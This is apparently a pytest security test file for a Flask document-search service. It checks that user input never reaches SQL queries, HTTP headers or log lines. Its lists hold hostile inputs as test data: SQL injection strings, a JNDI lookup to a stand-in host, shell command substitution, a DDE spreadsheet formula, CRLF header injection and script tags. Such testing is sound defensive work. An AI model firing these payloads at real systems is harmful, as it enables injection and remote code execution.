"""What users write is data: never a part of a query, of a header, or of a line in the log."""

from __future__ import annotations

import io
import json
import logging
import re
import sqlite3
from collections.abc import Iterator

import pytest
from flask.testing import FlaskClient

from index.database import FILE_NAME
from index.indexing import Indexer
from index.store import Store
from tests.qa.parts import BRIDGE, document
from tests.security.conftest import ASK
from web.logs import JsonLines

QUERIES = [
    "'; DROP TABLE documents; --",
    '"; DELETE FROM passages; --',
    "' OR '1'='1",
    "x' UNION SELECT hash FROM keys --",
    "1; ATTACH DATABASE '/tmp/x' AS x",
    "\\'; VACUUM INTO '/tmp/x'; --",
    "bridge*",
    "*",
    '"',
    '"""',
    '"bridge',
    "bridge AND",
    "AND OR NOT",
    "NOT bridge",
    "bridge OR mill OR *",
    "NEAR(bridge mill, 9999999999)",
    "NEAR(",
    "title: bridge",
    "- title: bridge",
    "{title text}: bridge",
    "^bridge",
    "bridge + mill +",
    "((((((((((bridge",
    "bridge))",
    "passages MATCH 'x'",
    "%",
    "_",
    "bridge%' ESCAPE '\\",
    "\\",
    "a\x00b bridge",
    "\ufffd\ufffe bridge",
    "bridge " * 140,
    "(" * 400 + " bridge",
    "ＳＥＬＥＣＴ * FROM documents bridge",
    "{{7*7}} bridge",
    "%s%s%s%n bridge",
    "${jndi:ldap://elsewhere.example/a} bridge",
    "`id` $(id) ; id | id bridge",
    "=cmd|' /C calc'!A0 bridge",
]


def tables(store: Store) -> list[tuple[str, int]]:
    """Every table of the library with its number of rows."""
    with sqlite3.connect(store.folder / FILE_NAME) as connection:
        names = [
            row[0]
            for row in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")
        ]
        return [
            (name, connection.execute(f'SELECT count(*) FROM "{name}"').fetchone()[0])
            for name in sorted(names)
        ]


@pytest.mark.parametrize("query", QUERIES)
def test_in_a_question_and_its_filters(client: FlaskClient, store: Store, query: str) -> None:
    before = tables(store)
    bodies: list[dict[str, object]] = [
        {"question": query},
        {"question": "who opened the bridge?", "sources": [query]},
        {"question": "who opened the bridge?", "date_from": query},
        {"question": "who opened the bridge?", "history": [query, {"question": query}]},
        {"question": "who opened the bridge?", "conversation": query},
        {"question": "who opened the bridge?", "document_ids": [query]},
    ]
    for body in bodies:
        response = client.post(ASK, json=body)
        assert response.status_code in {200, 404, 422}, response.text
        assert "sqlite" not in response.text.lower() and "Traceback" not in response.text
    filtered = client.post(ASK, json=bodies[1]).get_json()
    assert filtered.get("answers", []) == []  # there is no such source
    explained = client.post("/api/v1/explain", json={"question": query, "expect": query})
    assert explained.status_code in {200, 422}
    assert tables(store) == before


@pytest.mark.parametrize("query", QUERIES)
def test_in_a_search_of_conversations(client: FlaskClient, query: str) -> None:
    """A wildcard is a character like any other: nothing that does not hold it is found."""
    client.post("/api/v1/conversations", json={"title": "Bridges of Bergen"})
    response = client.get("/api/v1/conversations", query_string={"search": query})
    assert response.status_code in {200, 422}
    found = (response.get_json() or {}).get("conversations", [])
    if re.search(r"[^\w\s]", query):
        assert found == []
    assert client.get(f"/api/v1/conversations/{query[:60].replace('/', '')}").status_code in {
        308,
        404,
        405,
    } or query.strip() in {"", ".", ".."}


LINES = [
    "name\r\nSet-Cookie: a=b",
    "name\nX-Injected: yes",
    "name\rX-Injected: yes",
    "name\r\n\r\n<script>alert(1)</script>",
    "name%0d%0aX-Injected: yes",
    "name\u2028X-Injected: yes",
    "name\u0085X-Injected: yes",
    "name\x0bX-Injected: yes",
    "name嘊嘍X-Injected: yes",
    'name"; filename="other.html',
    "name\x00.html",
    "name\\",
    "name; filename*=UTF-8''other.html",
]


@pytest.mark.parametrize("name", LINES)
def test_in_a_header(client: FlaskClient, indexer: Indexer, name: str) -> None:
    """A title is part of a download's name, an address part of where a request is sent on to."""
    begun = client.post("/api/v1/conversations", json={"title": name})
    path = f"/api/v1/conversations/{begun.get_json()['id']}/export"
    indexer.add_document(document("Marta opened it.", f"upload:{name}", title=name))
    for response in (
        client.get(path),
        client.get(f"{path}?format=json"),
        client.get("/api/v1/documents/3/original"),
        client.get(
            "/api/v1/documents", headers={"X-Request-ID": name.split("\r")[0].split("\n")[0]}
        ),
    ):
        assert "X-Injected" not in response.headers and "Set-Cookie" not in response.headers
        for field, value in response.headers:
            assert value.isprintable(), field
            if field == "Content-Disposition":
                assert value.count("filename=") == 1 and value.count("filename*=") <= 1
                assert re.fullmatch(r'(attachment|inline); filename="[^"\\]*"(; .*)?', value)


@pytest.mark.parametrize(
    "given",
    [
        "a\u2028b",
        "a b",
        "a,b",
        '"},{"level":"error"',
        "%0a%0d",
        "é",
        "a" * 65,
        "<script>",
        "../../x",
        "\x1b[2J",
        "${jndi:x}",
    ],
)
def test_in_a_request_s_id(client: FlaskClient, given: str) -> None:
    raw = {"HTTP_X_REQUEST_ID": given.encode().decode("latin-1")}
    response = client.get("/api/v1/documents/999", environ_overrides=raw)
    assert re.fullmatch(r"[0-9A-Za-z._:-]{1,64}", response.headers["X-Request-ID"])
    assert given not in response.text


@pytest.fixture
def logged() -> Iterator[io.StringIO]:
    """What the application logs, written as the server writes it."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(JsonLines(text=True))
    root, level = logging.getLogger(), logging.getLogger().level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    yield stream
    root.removeHandler(handler)
    root.setLevel(level)


@pytest.mark.parametrize(
    "words", [*LINES, "\x1b[31mred", "\u202eright to left", "\ud7ff\U0001f600"]
)
def test_in_a_line_of_the_log(client: FlaskClient, logged: io.StringIO, words: str) -> None:
    """Even with texts turned on, each event is one line of JSON in ASCII."""
    client.post(ASK, json={"question": words})
    client.get(f"/{words.replace('/', '')}")
    client.get(
        "/",
        headers={
            "User-Agent": words.encode("ascii", "ignore").decode().split("\r")[0].split("\n")[0]
        },
    )
    logging.getLogger("index.test").warning("%s: %s", words, {"name": words})
    lines = logged.getvalue().split("\n")
    assert lines.pop() == ""
    assert lines
    for line in lines:
        assert line.isascii() and line.isprintable()
        event = json.loads(line)
        assert isinstance(event, dict) and "X-Injected" not in event


@pytest.mark.usefixtures("logged")
def test_a_question_is_not_in_the_log_as_it_is_by_default(client: FlaskClient) -> None:
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(JsonLines(text=False))
    logging.getLogger().addHandler(handler)
    try:
        client.post(ASK, json={"question": "who betrayed Marta to the police?"})
        client.post(ASK, json={"question": BRIDGE, "sources": ["police"]})
        logging.getLogger("index.test").warning("%s was read", "police.txt")
    finally:
        logging.getLogger().removeHandler(handler)
    assert stream.getvalue()
    assert "betrayed" not in stream.getvalue() and "police" not in stream.getvalue()
